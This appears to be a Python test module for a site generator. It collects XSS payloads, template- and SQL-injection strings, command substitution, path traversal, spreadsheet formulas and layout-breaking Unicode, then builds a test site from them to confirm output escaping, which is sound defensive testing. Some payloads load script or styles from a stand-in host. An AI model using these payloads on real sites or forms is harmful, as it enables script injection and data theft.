"""Two hundred texts that nobody should write into a form, and a site with all texts of people replaced by them."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from scorecard import __version__, pipeline, publish
from scorecard.mkdocs_plugin import library
from scorecard.present import present
from scorecard.score import score
from tests.conftest import REPOSITORY
from tests.texts import everything, fields
from tests.texts.fields import Sort

#: What runs if it is ever taken for markup: each sets `window.ran` or asks another host.
RUN = (
    *("<script>window.ran=1</script>", "</title><script>ran=1</script>", "</script><script>ran=1</script>"),
    *("<img src=x onerror=ran=1>", "<img src=https://other.example/p.png>", "<svg onload=ran=1>", "<svg/onload=ran=1>"),
    *(
        "<body onload=ran=1>",
        "<details open ontoggle=ran=1>",
        "<input autofocus onfocus=ran=1>",
        "<video><source onerror=ran=1>",
    ),
    *(
        "<iframe srcdoc='<script>parent.ran=1</script>'>",
        "<iframe src=javascript:ran=1>",
        "<object data=javascript:ran=1>",
    ),
    *(
        "<embed src=//other.example/x>",
        "<link rel=stylesheet href=//other.example/x.css>",
        "<base href=//other.example/>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//other.example/'>",
        "<form action=//other.example/><button>x</button></form>",
    ),
    *(
        "<style>body{display:none}</style>",
        "<style>@import '//other.example/x.css';</style>",
        "<template><script>ran=1</script>",
    ),
    *('" onmouseover="ran=1', "' onfocus='ran=1' autofocus='", '" autofocus onfocus=ran=1 x="', "`onclick=ran=1`"),
    *("javascript:ran=1", "JaVaScRiPt:ran=1", "data:text/html,<script>ran=1</script>", "vbscript:ran=1"),
    *("[x](javascript:ran=1)", "![x](https://other.example/p.png)", "<javascript:ran=1>", "[x]: javascript:ran=1"),
    *(
        "--><script>ran=1</script><!--",
        "]]><script>ran=1</script>",
        "</style><script>ran=1</script>",
        "</svg><script>ran=1</script>",
    ),
    *(
        "</text></svg><img src=x onerror=ran=1>",
        "</textarea><script>ran=1</script>",
        "</article></main><script>ran=1</script>",
    ),
    *(
        "&lt;script&gt;ran=1&lt;/script&gt;",
        "&#60;script&#62;ran=1&#60;/script&#62;",
        "\\u003cscript\\u003eran=1",
        "%3Cscript%3Eran=1",
    ),
    *("<scr<script>ipt>ran=1</script>", "<SCRIPT SRC=//other.example/x.js></SCRIPT>", "<a href=javascript:ran=1>x</a>"),
    *(
        "<math><mtext><script>ran=1</script>",
        "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
        "<x contenteditable onblur=ran=1>",
    ),
)
#: What templates, formats and programs take for their own.
MEAN = (
    *(
        "{{ 7*7 }}",
        "{% raw %}",
        "{# x #}",
        "{{ page.__class__.__mro__ }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0}",
        "{name}",
    ),
    *(
        "%s %d %(x)s %%",
        "{",
        "}",
        "{}",
        "$(id)",
        "`id`",
        "=1+1",
        "=HYPERLINK('//other.example')",
        "+1",
        "-1",
        "@SUM(1)",
    ),
    *("null", "true", "NaN", "-0", "1e999", "undefined", "[object Object]", "__proto__", "constructor", "0", "None"),
    *(
        "../../etc/passwd",
        "C:\\CON",
        "?q=1#x",
        "a&b",
        "a & b",
        "&amp;",
        "&",
        "<",
        ">",
        '"',
        "'",
        "\\",
        "/",
        "//",
        "<!--",
    ),
    *(
        "# Heading",
        "- item",
        "> quote",
        "***bold***",
        "``` code",
        "---",
        "| a | b |",
        "    code",
        "[[link]]",
        ":smile:",
    ),
    *("'; DROP TABLE incidents; --", "' OR '1'='1", '{"a": 1}', "a: b", "!!python/object", "*anchor", "&anchor x", "~"),
)
#: What breaks a layout.
WIDE = (
    *(
        "W" * 60,
        "m" * 120,
        "i" * 200,
        "a-" * 60,
        "x/" * 80,
        "https://example.org/" + "path/" * 30,
        "word " * 60,
        "_" * 90,
    ),
    *(
        "超長い言葉" * 20,
        "信任" * 60,
        "ด้วยความไว้วางใจ" * 8,
        "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    ),
    *(
        "ثقة العملاء في الشركة",
        "אמון הלקוחות בחברה",
        "a ثقة b אמון c",
        "العربية 123 (456)",
        "مرحبا <b>x</b>",
        "١٢٣٤٥٦٧٨٩",
    ),
    *("Z͑ͫ̓ͪ̂ͫ̽a̴̵̞l̢̖g̡̟o̶̧", "e" + "\u0301" * 40, "👩‍👩‍👧‍👦" * 20, "🏴‍☠️🇮🇹🇪🇺", "ﷺ" * 10, "꧅" * 6, "𒐫" * 5, "ß ẞ İ ı ſ", "½ ⅔ ∑ ∞ ≠"),
    *(
        "a\u00a0b" * 40,
        "soft\u00adhyphen" * 10,
        "tab\tstop",
        "line\nbreak",
        "\n\n\nfar\n\n\nbelow",
        "  edges  ",
        "\u2028line\u2029",
        "\u200b" * 50 + "x",
    ),
    *(
        "\u202etfel ot thgir",
        "\u2066isolate",
        "\ufeffmark",
        "\u061c",
        "·" * 100,
        "…" * 80,
        "——" * 40,
        "(((((" * 20,
        "1" * 100,
    ),
    *("9,999,999,999,999", "-1.7976931348623157E+308", "T" * 12, ".", "?", "!", "A", "é", "ａｂｃ" * 20, "ᚠᛇᚻ" * 20),
)
STRINGS = RUN + MEAN + WIDE + tuple(f"{one}{two}" for one, two in zip(RUN, WIDE, strict=False))
COUNT = 200


def texts() -> tuple[str, ...]:
    """The first two hundred."""
    return STRINGS[:COUNT]


#: As bad as a link and an address may be: what a check lets through.
LINK = "https://other.example/&quot;onload=alert(1);&lt;b&gt;/%22%3E%3Cscript%3E[x](y)|*_=1,+1?a=1&copy=2&amp;#@x:y~!$^"
CONTACT = "=alert#!$%^*|~+b/x@other.example"


def site(folder: Path, text: Callable[[str, int], str]) -> tuple[Path, Counter[str]]:
    """A site of records that leave no text out, built with other texts, links and addresses. Also: values by field.

    `text` gives the one for the n-th value of a field. The records are changed after checking, so that what a check may
    refuse one day is tried all the same.
    """
    moment = pipeline.moment(everything.AS_OF)
    counted: Counter[str] = Counter()

    def other(path: str, old: str) -> str:
        counted[path] += 1
        return text(path, counted[path] - 1)

    records = fields.replaced(everything.records(REPOSITORY), other)
    records = fields.replaced(records, lambda path, old: LINK, frozenset({Sort.LINK}))
    records = fields.replaced(records, lambda path, old: CONTACT, frozenset({Sort.CONTACT}))
    organisation = records.organisation.record.model_copy(update={"languages": ("en",)})
    records = replace(records, organisation=replace(records.organisation, record=organisation))
    scorecard = score(records, moment)
    drawn = present(scorecard, records, moment, __version__, {})
    bundle = publish.draw(drawn, publish.template_folders(REPOSITORY))
    built = pipeline.Built(moment, (), records, scorecard, drawn, bundle, False)
    library.build_site(built, REPOSITORY, folder, strict=False, say=lambda level, told: None)
    return folder, counted
